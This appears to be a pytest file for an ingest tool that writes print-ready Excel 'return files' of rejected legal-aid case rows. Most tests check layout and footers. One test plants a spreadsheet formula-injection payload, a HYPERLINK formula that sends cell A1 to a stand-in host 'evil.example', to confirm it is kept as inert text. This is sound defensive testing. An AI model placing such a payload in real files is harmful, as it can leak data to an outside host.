"""ingest/feedback.py: the return file of a load's quarantined rows prints
like the dashboards' table exports (kernel.workbook). Read back with
openpyxl, an xlsx reader we did not write; the corrected file goes back in
through the normal ingest."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from ingest.feedback import write_errors_xlsx
from kernel.home import Home
from tests.ingest.test_load import LEGAL_AID_HEADER, TODAY, ingest, messy_workbook


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "home").ensure()


def _return_file(home, tmp_path: Path) -> openpyxl.worksheet.worksheet.Worksheet:
    entries = ingest(home, messy_workbook(tmp_path / "闵行.xlsx"))
    out = tmp_path / "退回.xlsx"
    assert write_errors_xlsx(entries, out) == 1
    return openpyxl.load_workbook(out).worksheets[0]


def test_the_return_file_prints_on_a4_one_page_wide_with_the_header_on_every_page(home, tmp_path):
    sheet = _return_file(home, tmp_path)
    assert sheet.page_setup.paperSize == 9  # A4
    assert sheet.page_setup.orientation == "landscape"  # ten columns
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    # One page wide (1 is the default, which the file may leave out), any
    # number of pages down.
    assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0
    header_row = next(row[0].row for row in sheet.iter_rows() if row[0].value == "原行号 row")
    assert sheet.print_title_rows == f"${header_row}:${header_row}"
    assert sheet.freeze_panes == f"A{header_row + 1}"
    footer = sheet.oddFooter
    assert footer.left.text == "退回修改 returned for correction · 法律援助案件 · 法律援助"
    assert footer.right.text == "第 &P 页 / 共 &N 页"


def test_the_return_file_has_a_title_block_above_the_rows_and_their_reasons(home, tmp_path):
    sheet = _return_file(home, tmp_path)
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "退回修改 returned for correction · 法律援助案件 · 法律援助"
    facts = [row[0] for row in rows[1:6]]
    assert facts == [
        "数据集 dataset：法律援助案件",
        "工作表 sheet：法律援助",
        "原标题 title：2026年1-3月闵行区法律援助案件明细表",
        "退回行数 rows：1",
        "说明 note：按“错误原因”改正标红的单元格后重新报送"
        " / fix the red cells as the reasons say, then send the file again",
    ]
    assert rows[6] == [None] * len(rows[6])  # a blank row keeps the block out of Excel's table
    assert rows[7] == ["原行号 row", *LEGAL_AID_HEADER, "错误原因 reasons"]
    assert rows[8][:3] == [6, "FY-3", "Minhang"]
    assert "受理日期：日期晚于今天" in rows[8][-1] and "争议类型：不在可选值范围内" in rows[8][-1]


def test_unionkpi_ingest_errors_xlsx_writes_the_print_ready_return_file(tmp_path):
    """The command line's --errors-xlsx, and a CSV (no sheet: none named)."""
    source = tmp_path / "闵行.csv"
    source.write_text(
        ",".join(LEGAL_AID_HEADER) + "\nFY-1,闵行,2026-01-05,2026-02-01,劳动报酬,2,1.5,调解成功\n"
        "FY-3,Minhang,2027-01-01,2026-01-01,火星,0,-1,调解成功\n",
        encoding="utf-8",
    )
    out = tmp_path / "退回.xlsx"
    done = subprocess.run(
        [sys.executable, "-m", "unionkpi", "--home", str(tmp_path / "home"), "ingest", "--errors-xlsx", str(out)]
        + [str(source)],
        capture_output=True,
        text=True,
        env={**os.environ, "UNIONKPI_TODAY": TODAY.isoformat()},
        check=False,
    )
    assert done.returncode == 0, done.stderr
    sheet = openpyxl.load_workbook(out).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "退回修改 returned for correction · 法律援助案件"
    assert [row[0] for row in rows[1:3]] == ["数据集 dataset：法律援助案件", "退回行数 rows：1"]
    top = next(i for i, row in enumerate(rows) if row[0] == "原行号 row")
    assert rows[top + 1][:3] == [3, "FY-3", "Minhang"]
    assert sheet.print_title_rows == f"${top + 1}:${top + 1}"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert sheet.oddFooter.left.text == "退回修改 returned for correction · 法律援助案件"


def test_formula_like_cells_come_back_as_text_that_stays_text_when_edited(home, tmp_path):
    """A rejected row's cells are the district's own text; one that starts
    like a formula carries Excel's quote prefix, so pressing F2 and Enter on
    it (as the district fixing the red cells will) keeps it text."""
    source = tmp_path / "闵行_2026年3月.csv"
    good = "K-1,闵行,2026-03-02,,劳动报酬,1,0.5,办理中"
    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click"),闵行,2026-03-03,,劳动报酬,1,0.5,办理中'
    source.write_text(",".join(LEGAL_AID_HEADER) + "\n" + good + "\n" + evil + "\n", encoding="utf-8")
    out = tmp_path / "退回.xlsx"
    assert write_errors_xlsx(ingest(home, source), out) == 1
    sheet = openpyxl.load_workbook(out).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    formula_like = [cell for cell in cells if cell.value.startswith("=HYPERLINK")]
    assert formula_like and all(cell.data_type == "s" and cell.quotePrefix for cell in formula_like)
    assert not any(cell.quotePrefix for cell in cells if not cell.value.startswith(("=", "+", "-", "@")))
    assert not any(cell.hyperlink for cell in cells)
